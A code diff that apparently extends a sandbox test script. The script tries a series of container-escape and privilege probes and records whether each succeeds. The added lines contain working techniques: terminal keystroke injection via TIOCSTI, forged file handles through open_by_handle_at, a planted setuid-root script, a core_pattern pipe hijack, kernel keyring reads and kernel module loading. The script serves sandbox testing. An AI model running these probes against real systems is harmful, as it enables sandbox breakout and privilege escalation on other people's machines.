@@ -147,6 +147,82 @@ for whose in ("server", "router", "spawner", "supervisor"):
     attempt("process handle of the " + whose, lambda: system(libc.syscall, SYS["pidfd_open"], pid, 0))
 attempt("signal the sandbox's first process", lambda: os.kill(1, signal.SIGKILL) or open("/proc/1/root" + DATA))
 
+
+
+# keys
+
+
+def session_key():
+    """One that whoever started the server has in the keyring of their session."""
+    number = 250 if os.uname().machine == "x86_64" else 219
+    search, view, session = 10, 11, -3
+    key = system(libc.syscall, number, search, session, b"user", b"slipway-attack", 0)
+    text = ctypes.create_string_buffer(100)
+    system(libc.syscall, number, view, key, text, 100)
+    return text.value
+
+
+attempt("keys of the server's session", session_key)
+attempt("keys of the user", lambda: [line for line in open("/proc/keys") if "slipway-attack" in line])
+
+
+def type_into_terminal():
+    with open("/dev/tty", "r+") as terminal:
+        import fcntl
+
+        return fcntl.ioctl(terminal, 0x5412, b"x") or "done"  # TIOCSTI
+
+
+attempt("type into the terminal of whoever started the server", type_into_terminal)
+attempt("become another user", lambda: os.setuid(1) or "done")
+attempt("other groups", lambda: os.setgroups([0, 4, 27]) or "done")
+attempt("raise our limits", lambda: __import__("resource").setrlimit(__import__("resource").RLIMIT_NPROC, (-1, -1)) or "done")
+
+
+def setuid_file():
+    """Set-user-id of root on a file of ours, which means something outside of the sandbox if it can be started there."""
+    path = "/opt/ml/output/intruder-suid"
+    os.makedirs("/opt/ml/output", exist_ok=True)
+    with open(path, "w") as file:
+        file.write("#!/bin/sh\nid -u\n")
+    os.chmod(path, 0o4755)
+    mounted = [line.split() for line in open("/proc/self/mountinfo") if line.split()[4] in ("/", "/opt/ml")]
+    return [each[4] for each in mounted if "nosuid" not in each[5].split(",")]
+
+
+attempt("a file that runs as another", setuid_file)
+attempt("performance counters", lambda: system(libc.syscall, 298 if os.uname().machine == "x86_64" else 241, None, 0, -1, -1, 0))
+attempt("load a kernel module", lambda: system(libc.syscall, 313 if os.uname().machine == "x86_64" else 273, 0, b"", 0))
+
+
+def open_by_handle():
+    """The way out of containers of old: a file of the same file system by its number, the root's being known."""
+    numbers = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
+    mount_id, handle = ctypes.c_int(), ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
+    system(libc.syscall, numbers[0], -100, b"/opt/ml", handle, ctypes.byref(mount_id), 0)
+    place = os.open("/opt/ml", os.O_RDONLY)
+    for inode in (2, 64, 128, 256):  # roots of ext4, xfs, btrfs
+        forged = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0) + bytes(112))
+        try:
+            return system(libc.syscall, numbers[1], place, forged, os.O_RDONLY)
+        except OSError:
+            pass
+    return None
+
+
+attempt("another root by file handle", open_by_handle)
+attempt("swap, reboot", lambda: system(libc.swapon, b"/tmp/none", 0))
+attempt("core files", lambda: write_now("/proc/sys/kernel/core_pattern", "|/opt/ml/intruder"))
+
+
+def write_now(path, text):
+    with open(path, "w") as file:
+        file.write(text)
+    return "done"
+
+
+attempt("out-of-memory killer: spare us", lambda: write_now("/proc/self/oom_score_adj", "-1000"))
+
 # mounts and namespaces
 
 MS_BIND, MS_REMOUNT = 0x1000, 0x20
